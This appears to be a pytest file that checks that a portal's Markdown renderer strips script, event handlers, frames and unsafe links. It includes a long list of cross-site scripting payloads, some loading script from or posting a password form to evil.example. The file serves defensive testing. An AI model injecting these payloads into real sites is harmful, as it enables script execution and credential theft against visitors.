"""Markdown becomes HTML without anything in it that runs, loads, frames, sends or dresses up."""

from urllib.parse import urlsplit

import pytest
from lxml import html

from trustportal.record.markdown import to_html

from .conftest import NOTE
from .reading import tree

TAGS = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "strong", "em"),
    *("a", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    **{heading: {"id"} for heading in ("h2", "h3", "h4", "h5", "h6")},
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<body onload=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    "<a href='#' onmouseover=alert(1)>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<style>* { display: none }</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div\x0conclick=alert(1)>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n[1]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://example.com "onclick=alert(1)")',
    '[x](https://example.com" onclick="alert(1))',
    "[x](https://example.com '\"><script>alert(1)</script>')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "## x {onclick=alert(1)}",
    '## "><script>alert(1)</script>',
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<script>alert(1)</script>**",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "<wzxhzdk:0><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 <b onclick=x>",
    "\x02klzzwxh:0000\x03",
]


def unsafe(fragment):
    """Return what HTML holds beyond the tags, attributes and links that a text may have."""
    found = []
    for element in html.fromstring(f"<div>{fragment}</div>").iterdescendants():
        if element.tag not in TAGS:
            found.append(element.tag)
        found += [
            f"{element.tag} {name}"
            for name in set(element.keys()) - ATTRIBUTES.get(element.tag, set())
        ]
        if urlsplit(element.get("href", "")).scheme not in ("", "http", "https", "mailto"):
            found.append(element.get("href"))
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_text_or_not_at_all(attack):
    assert unsafe(to_html(attack)) == []


def test_the_check_of_attacks_knows_one():
    assert unsafe("<p onclick=x>x</p><script>x</script><a href='javascript:x'>x</a>") == [
        "p onclick",
        "script",
        "javascript:x",
    ]


def test_attacks_published_in_every_text_reach_the_page_as_text(security, stranger):
    attack = "\n\n".join(attack for attack in ATTACKS if attack.isprintable())
    security.title = {"en": ATTACKS[0]}
    security.summary = security.notice = security.body = {"en": attack}
    security.save()
    security.publish(note={"en": attack})
    for address in (
        "/pages/data-security/",
        "/",
        "/pages/",
        "/changes/",
        "/pages/data-security/history/",
    ):
        page = tree(stranger.get(address))
        assert "alert(1)" in page.text_content()
        assert (
            page.xpath("//script[not(@src)] | //iframe | //img | //object | //style | //@style")
            == []
        )
        assert page.xpath("//@*[starts-with(name(), 'on')]") == []
        assert {urlsplit(link).scheme for link in page.xpath("//@href")} <= {
            "",
            "http",
            "https",
            "mailto",
        }


# Ordinary Markdown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Words.", "<p>Words.</p>"),
        ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
        ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("---", "<hr>"),
        ("[a](/pages/b/)", '<p><a href="/pages/b/" rel="noopener">a</a></p>'),
        (
            '[a](https://example.com "t")',
            '<p><a href="https://example.com" title="t" rel="noopener">a</a></p>',
        ),
        (
            "<https://example.com>",
            '<p><a href="https://example.com" rel="noopener">https://example.com</a></p>',
        ),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
        ("a <b>b</b> c", "<p>a &lt;b&gt;b&lt;/b&gt; c</p>"),
        ("snake_case_name", "<p>snake_case_name</p>"),
        ("Größe – “x”", "<p>Größe – “x”</p>"),
    ],
)
def test_ordinary_markdown_works(text, expected):
    assert to_html(text) == expected


def test_a_table_has_head_and_cells():
    table = html.fromstring(to_html("| a | b |\n|---|---|\n| c | d |"))
    assert (table.tag, table.xpath(".//th/text()"), table.xpath(".//td/text()")) == (
        "table",
        ["a", "b"],
        ["c", "d"],
    )


def test_a_mail_address_becomes_a_link_for_mail():
    (link,) = html.fromstring(f"<div>{to_html('<dpo@example.com>')}</div>").iter("a")
    assert (link.get("href"), link.text_content()) == ("mailto:dpo@example.com", "dpo@example.com")


def test_a_heading_can_be_linked_to_and_none_competes_with_the_title_of_the_page():
    headings = html.fromstring(
        f"<div>{to_html('# One\n\n## Two\n\n## Two\n\n### Three', 'text')}</div>"
    )
    assert [heading.tag for heading in headings] == ["h2", "h2", "h2", "h3"]
    ids = [heading.get("id") for heading in headings]
    assert ids == ["text-one", "text-two", "text-two_1", "text-three"]


def test_a_heading_never_takes_the_place_of_a_part_of_the_page(apple, stranger):
    apple.summary = apple.consent = {"en": "## Main\n\n## Filters\n\n## Section sent"}
    apple.save()
    apple.publish(note=NOTE)
    ids = tree(stranger.get("/sharing/apple/")).xpath("//@id")
    assert sorted(ids) == sorted(set(ids))


@pytest.mark.parametrize(
    "text", [">" * 500, "[" * 500, "*" * 500, "- " * 250, "`" * 500, "<" * 500, "![" * 250]
)
def test_a_text_of_one_sign_many_times_is_rendered_too(text):
    assert unsafe(to_html(text)) == []


def test_a_line_that_begins_with_an_ordinal_is_no_list():
    assert to_html("2. November 2026") == "<p>2. November 2026</p>"
    assert to_html("1. first\n2. second").startswith("<ol>")
